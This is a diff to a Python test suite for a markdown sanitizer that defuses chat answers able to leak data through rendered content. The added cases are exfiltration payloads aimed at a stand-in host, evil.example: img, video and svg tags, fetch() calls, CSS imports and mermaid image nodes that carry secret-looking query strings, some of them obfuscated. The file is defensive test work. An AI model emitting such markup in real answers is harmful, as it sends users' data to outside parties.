@@ -51,6 +51,10 @@ CODE = base64.b64encode(b"Johannes Kowalski").decode()
         f"[x](https://other.example/{CODE})",
         "[x](https://other.example/?q=" + b"Johannes Kowalski".hex() + ")",
         "[x](https://johanneskowalski.other.example/)",
+        "see ```[x](https://evil.example/p?d=secret)",
+        "<div>\n```\n<video src='https://evil.example/p?d=secret'></video>\n```\n</div>",
+        "<div>\n" + "a\n" * 3_000 + "```\n<video src='https://evil.example/p?d=secret'></video>\n```\n</div>",
+        "see ~~~ https://evil.example/p?d=secret",
     ],
 )
 def test_what_carries_something_out_is_defused(answer: str) -> None:
@@ -69,7 +73,11 @@ def test_what_carries_something_out_is_defused(answer: str) -> None:
         "![chart](/files/chart.png) and ![dot](data:image/png;base64,iVBORw0KGgo=)",
         "As [1] and [2][3] say, a < b, x[0][1], f(x) [no! and 3 <4",
         "- [ ] todo\n- [x] done\n\n| a | b |\n|---|---|\n",
-        "```html\n<img src='https://evil.example/p?d=1'>\n![x](https://evil.example/p)\n```\n",
+        "```python\nprint('<img src=https://evil.example/p?d=1>')\n![x](https://evil.example/p)\n```\n",
+        "```\n<img src='https://evil.example/p?d=1'>\n```\n",
+        "```mermaid\nflowchart LR\n  A[Order<br/>paid] --> B & C\n  style A fill:#f9f\n```\n",
+        "Use ```html``` for pages.",
+        "<b>Code</b>\n\n```python\nprint('<img src=https://evil.example/p?d=1>')\n```\n",
         "<b>bold</b>, <br/>, <details><summary>s</summary></details>",
         "",
     ],
@@ -148,6 +156,42 @@ def test_a_remote_image_becomes_a_link_even_if_nothing_came_from_outside() -> No
     assert LinkFilter().sanitize("![a cat](https://pics.example/cat.png)") == "[a cat](https://pics.example/cat.png)"
 
 
+def test_no_block_of_html_goes_on_behind_an_empty_line() -> None:
+    assert LINKS.sanitize("<pre>\n\n```\n<video>\n```\n</pre>") == "\n\n```\n<video>\n```\n"
+
+
+BODY = "<img src='https://evil.example/?d=Kowalski'>\n"
+
+
+@pytest.mark.parametrize(
+    ("block", "label"),
+    [
+        (f"```html\n{BODY}```\n", "```text\n"),
+        (f"```HTML title=page\n{BODY}```\n", "```text\n"),
+        (f"```ht&#109;l\n{BODY}```\n", "```text\n"),
+        (f"```{{.html}}\n{BODY}```\n", "```text\n"),
+        ("~~~svg\n<svg><image href='//evil.example/?d=Kowalski'/></svg>\n~~~\n", "~~~text\n"),
+        (f"```xml\n{BODY}```\n", "```text\n"),
+        ("```js\nfetch('ht' + 'tps://evil.example/?d=Kowalski')\n```\n", "```text\n"),
+        ("```css\n@import '//evil.example/?d=Kowalski';\n```\n", "```text\n"),
+        ('```vega-lite\n{"data": {"url": "//evil.example/?d=Kowalski"}}\n```\n', "```text\n"),
+        ("````\n```html\n<img src=//evil.example/?d=Kowalski>\n```\n````\n", "```text\n"),
+        ("```mermaid\nA[<img src='//evil.example/?d=Kowalski'>]\n```\n", "```text\n"),
+        ("```mermaid\nA@{ img: 'https:#47;#47;evil.example/?d=Kowalski' }\n```\n", "```text\n"),
+        ("```mermaid\nA --> B\n", "```mermaid\n"),
+        ("- ```js\n  fetch('//evil.example/?d=Kowalski')\n  ```\n", "```text\n"),
+        ("see ```html\n<p>\n```\n", "```text\n"),
+    ],
+)
+def test_a_block_that_chat_pages_draw_by_themselves_is_shown_as_text(block: str, label: str) -> None:
+    left = LINKS.sanitize(block)
+    assert label in left
+    drawn = ("```html", "~~~svg", "```xml", "```js", "```css", "```vega", "```ht", "```{", "```HTML")
+    assert not any(language in left for language in drawn)
+    stream = LINKS.create_stream()
+    assert "".join(map(stream.feed, block)) + stream.end() == left
+
+
 def test_an_unfinished_tag_is_no_tag() -> None:
     assert LINKS.sanitize("<img src=x") == "&lt;img src=x"
 
@@ -156,7 +200,8 @@ _BITS = st.sampled_from(
     ["![x](https://evil.example/p?d=1)", "[a](https://ok.example/)", "[", "]", "(", ")", "!", "<", ">", "`", "```",
      "\n",
      "\n\n", "http", "https://", "www.", "evil.example", " ", "a", '"', "'", "~~~", ":", "   ", "x" * 90, "<!--", "-->",
-     "\\", "<img src=//e.example/x>", "[r]: https://evil.example/p?d=2", "<a href='//evil.example/q'>", "é",
+     "\\", "<img src=//e.example/x>", "html", "mermaid", "```mermaid\n",
+     "```html\n", "[r]: https://evil.example/p?d=2", "<a href='//evil.example/q'>", "é",
      "<https://a.b>"]
 )  # fmt: skip
 
